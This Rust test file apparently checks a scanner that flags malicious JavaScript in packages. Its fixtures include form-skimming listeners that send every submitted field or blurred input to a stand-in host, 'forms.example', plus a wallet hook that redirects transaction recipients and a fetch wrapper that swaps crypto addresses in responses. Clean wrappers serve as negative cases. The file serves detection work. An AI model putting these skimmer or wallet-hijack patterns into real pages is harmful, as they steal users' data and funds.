//! Inert samples of code for a page: what listens to forms, what stands between a user and the wallet, and the honest
//! wrappers beside them. Hosts are reserved ones; nothing here could do anything, on the stage or off it.

mod common;

use cleanbill_rehearsal::FactKind;
use common::{all, fact, library, proven};

#[test]
fn fields_of_a_form_that_is_sent_elsewhere_are_a_theft_with_its_place() {
    for listener in [
        "document.addEventListener('submit', function (event) {\n  var kept = {};\n  for (var field of event.target.elements) kept[field.name] = field.value;\n  send(JSON.stringify(kept));\n}, true);",
        "for (var form of document.forms) form.addEventListener('submit', function () { send([...new FormData(this).values()].join()); });",
        "document.querySelectorAll('input').forEach(function (one) { one.addEventListener('blur', function (event) { send(btoa(event.target.value)); }); });",
    ] {
        let (_, facts) = all(&library(&format!(
            "if (typeof document !== 'undefined') {{\n{listener}\n}}\nfunction send(text) {{ navigator.sendBeacon('https://forms.example/in', text); }}"
        )));
        let theft = fact(&facts, "FLO-01");
        assert_eq!(theft.kind, FactKind::Proven, "{listener}");
        assert_eq!(theft.host.as_deref(), Some("forms.example"));
        let last = theft.steps.last().unwrap();
        assert_eq!(last.file.as_deref(), Some("index.js"), "{last:?}");
    }
}

#[test]
fn a_form_that_is_checked_and_sent_to_its_own_page_is_nobodys_theft() {
    let (_, facts) = all(&library(
        "if (typeof document !== 'undefined') document.addEventListener('submit', function (event) {\n\
           for (var field of event.target.elements) if (!field.value) event.preventDefault();\n\
           fetch(event.target.action, { method: 'POST', body: new FormData(event.target) });\n\
           fetch('https://count.example/hit', { method: 'POST', body: 'submitted' });\n\
         });",
    ));
    assert!(proven(&facts).is_empty(), "{facts:#?}");
}

#[test]
fn a_wallet_that_signs_for_another_receiver_shows_who_stands_between() {
    let thief = "const mine = '0x' + '1'.repeat(40);\n\
         if (typeof window !== 'undefined') {\n\
           const ask = window.ethereum.request;\n\
           window.ethereum.request = async function (call) {\n\
             if (call.params) call.params[0].to = mine;\n\
             return ask.call(this, call);\n\
           };\n\
         }";
    let (_, facts) = all(&library(thief));
    let swap = fact(&facts, "FLO-11");
    assert_eq!(swap.kind, FactKind::Proven);
    let first = swap.steps.first().unwrap();
    assert_eq!(first.file.as_deref(), Some("index.js"));
    assert!(
        first.line.is_some_and(|line| (4..=6).contains(&line)),
        "{first:?}"
    );
}

#[test]
fn an_answer_with_other_addresses_in_it_shows_who_put_them_there() {
    let (_, facts) = all(&library(
        "if (typeof window !== 'undefined') {\n\
           const ask = window.fetch;\n\
           window.fetch = async function (...rest) {\n\
             const answer = await ask.apply(this, rest);\n\
             return new Response((await answer.text()).replace(/0x[0-9a-fA-F]{40}/g, '0x' + '2'.repeat(40)));\n\
           };\n\
         }",
    ));
    let swap = fact(&facts, "FLO-11");
    let first = swap.steps.first().unwrap();
    assert_eq!((first.file.as_deref(), first.line), (Some("index.js"), Some(4)));
}

#[test]
fn wrappers_that_log_retry_or_rewrite_without_an_address_of_their_own_are_clean() {
    for wrapper in [
        "window.fetch = async (...rest) => { const answer = await ask(...rest); return new Response(JSON.stringify({ wrapped: await answer.text() })); };",
        "window.fetch = async (...rest) => { console.log(rest[0]); return ask(...rest); };",
        "window.fetch = async () => new Response('offline');",
        "const sign = window.ethereum.request; window.ethereum.request = (call) => { console.log(call.method); return sign(call); };",
        "const sign = window.ethereum.request; window.ethereum.request = (call) => { if (call.params) call.params[0].to = call.params[0].to.toLowerCase(); return sign(call); };",
    ] {
        let (_, facts) = all(&library(&format!(
            "if (typeof window !== 'undefined') {{ const ask = window.fetch; {wrapper} }}"
        )));
        assert!(proven(&facts).is_empty(), "{wrapper}: {facts:#?}");
    }
}
